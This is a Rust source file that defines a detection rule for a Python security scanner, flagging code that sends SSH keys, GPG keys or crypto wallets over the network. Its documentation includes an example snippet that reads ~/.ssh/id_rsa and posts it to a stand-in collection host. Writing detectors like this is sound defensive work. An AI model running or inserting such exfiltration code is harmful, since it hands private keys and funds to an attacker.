use airlock_model::{Confidence, RuleMeta, Severity};

use super::sent_files::{self, Secret};
use crate::python::model::origin::SourceKind;
use crate::rules::Rule;

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-key-file-to-network",
        title: "A private key is sent away",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(522),
        bandit: &[],
        ruff: &[],
        remedy: "A private key never needs to leave the machine: sign with it, and send the signature.",
        doc: DOC,
    },
    hooks: &sent_files::hooks::<Key>(),
};

struct Key;

impl Secret for Key {
    const KINDS: &'static [SourceKind] = &[SourceKind::KeyFile];
    const WHAT: &'static str = "key or wallet";
}

const DOC: &str = r##"## What it finds
The contents of `~/.ssh`, of `~/.gnupg`, of `id_rsa` and its kin, and of wallets of cryptocurrencies, that reach a request, a socket, a mail or a program that sends them, also through a copy of the file, a copy of its folder or an archive of either; and such a file given by its name to `curl`, `scp`, `rsync` or a client of a store. The key that `scp -i` logs in with is not meant.

## Why it is dangerous
With the key, its owner's machines and repositories open; with the wallet, its coins are gone.

## Example
```python
import pathlib
import requests

key = pathlib.Path.home() / ".ssh" / "id_rsa"
requests.post("https://collect.example.net/k", data=key.read_bytes())
```

## Safe form
```python
import paramiko

client = paramiko.SSHClient()
client.connect("host.example.org", key_filename="/home/me/.ssh/id_rsa")
```

## References
- [MITRE ATT&CK T1552.004: Private Keys](https://attack.mitre.org/techniques/T1552/004/)
- CWE-522: Insufficiently Protected Credentials
"##;
